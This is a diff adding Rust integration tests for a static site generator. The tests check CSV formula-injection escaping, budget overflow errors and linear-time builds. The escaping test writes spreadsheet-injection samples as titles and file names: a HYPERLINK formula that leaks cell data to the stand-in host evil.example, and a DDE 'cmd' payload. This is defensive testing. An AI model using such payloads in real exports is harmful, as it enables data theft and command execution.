@@ -1,0 +1,123 @@
+//! Safe to publish: open data that cannot attack whoever opens it, inputs
+//! that cannot make a build take quadratic time, sums that cannot wrap.
+
+mod common;
+
+use std::time::{Duration, Instant};
+
+use common::*;
+
+/// A programme of the `plan` fixture, with extra front matter.
+fn programme(title: &str, extra: &str) -> String {
+    format!(
+        "+++\ntitle = {title:?}\npillar = \"smart-economy\"\nstatus = \"planned\"\nstart = 2025\nlead = \"bappeda\"\n{extra}+++\nText.\n"
+    )
+}
+
+#[test]
+fn open_data_cells_never_start_a_formula() {
+    let site = copy_site("plan");
+    let programs = site.path().join("content/programs");
+    std::fs::write(
+        programs.join("formula.md"),
+        programme("=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Klik\")", ""),
+    )
+    .unwrap();
+    std::fs::write(programs.join("plus.md"), programme("+cmd|' /C calc'!A0", "")).unwrap();
+    std::fs::write(programs.join("@SUM(1+1).md"), programme("At", "")).unwrap();
+    std::fs::write(programs.join("-2+3.md"), programme("Minus", "")).unwrap();
+    let out = site.path().join("public");
+    build_ok(site.path(), &out, &[]);
+    let csv = std::fs::read_to_string(out.join("data/programs.csv")).unwrap();
+    for line in csv.lines().skip(1) {
+        for cell in cells(line) {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell starts a formula: {cell:?} in {line}"
+            );
+        }
+    }
+    assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
+    assert!(csv.contains("'+cmd|"), "{csv}");
+    assert!(csv.contains("\n'@SUM(1+1),"), "{csv}");
+    assert!(csv.contains("\n'-2+3,"), "{csv}");
+}
+
+/// The cells of a CSV line (RFC 4180 quoting).
+fn cells(line: &str) -> Vec<String> {
+    let mut out = vec![String::new()];
+    let mut quoted = false;
+    let mut chars = line.chars().peekable();
+    while let Some(c) = chars.next() {
+        match (c, quoted) {
+            ('"', true) if chars.peek() == Some(&'"') => {
+                chars.next();
+                out.last_mut().unwrap().push('"');
+            }
+            ('"', _) => quoted = !quoted,
+            (',', false) => out.push(String::new()),
+            (c, _) => out.last_mut().unwrap().push(c),
+        }
+    }
+    out
+}
+
+#[test]
+fn budgets_too_large_to_count_are_an_error_naming_the_file() {
+    let site = copy_site("plan");
+    let row = |n: i64| format!("[[budget]]\nyear = 2025\namount = {n}\nsource = \"APBD\"\n\n");
+    std::fs::write(
+        site.path().join("content/programs/besar.md"),
+        programme("Besar", &format!("\n{}{}", row(i64::MAX), row(i64::MAX))),
+    )
+    .unwrap();
+    let out = site.path().join("public");
+    let o = build(site.path(), &out, &[]);
+    assert_eq!(o.status.code(), Some(1));
+    let err = stderr(&o);
+    assert!(err.contains("content/programs/besar.md"), "{err}");
+    assert!(err.contains("add up to more than terbit can count"), "{err}");
+    // Each programme countable, the plan's sum not.
+    std::fs::write(
+        site.path().join("content/programs/besar.md"),
+        programme("Besar", &format!("\n{}", row(i64::MAX))),
+    )
+    .unwrap();
+    std::fs::write(
+        site.path().join("content/programs/besar-juga.md"),
+        programme("Besar juga", &format!("\n{}", row(i64::MAX))),
+    )
+    .unwrap();
+    let o = build(site.path(), &out, &[]);
+    assert_eq!(o.status.code(), Some(1));
+    assert!(stderr(&o).contains("the plan's budgets add up to more"), "{}", stderr(&o));
+    assert!(!out.exists());
+}
+
+/// Inputs that took quadratic time (4,000 headings: 40 s; 20,000 budget
+/// rows: 21 s) build in a small share of that, even in a debug build.
+#[test]
+fn many_headings_and_budget_rows_build_in_linear_time() {
+    let site = copy_site("plan");
+    let headings = "# h\n\n".repeat(10_000);
+    std::fs::write(
+        site.path().join("content/judul.md"),
+        format!("+++\ntitle = \"Judul\"\n+++\n{headings}"),
+    )
+    .unwrap();
+    let rows: String = (0..20_000)
+        .map(|i| format!("[[budget]]\nyear = {}\namount = 1\nsource = \"APBD\"\n\n", 2025 + i % 3))
+        .collect();
+    std::fs::write(
+        site.path().join("content/programs/banyak.md"),
+        programme("Banyak", &format!("end = 2027\n\n{rows}")),
+    )
+    .unwrap();
+    let out = site.path().join("public");
+    let started = Instant::now();
+    build_ok(site.path(), &out, &[]);
+    let took = started.elapsed();
+    assert!(took < Duration::from_secs(30), "took {took:?}");
+    let page = std::fs::read_to_string(out.join("judul/index.html")).unwrap();
+    assert!(page.contains("id=\"h-9999\""));
+}
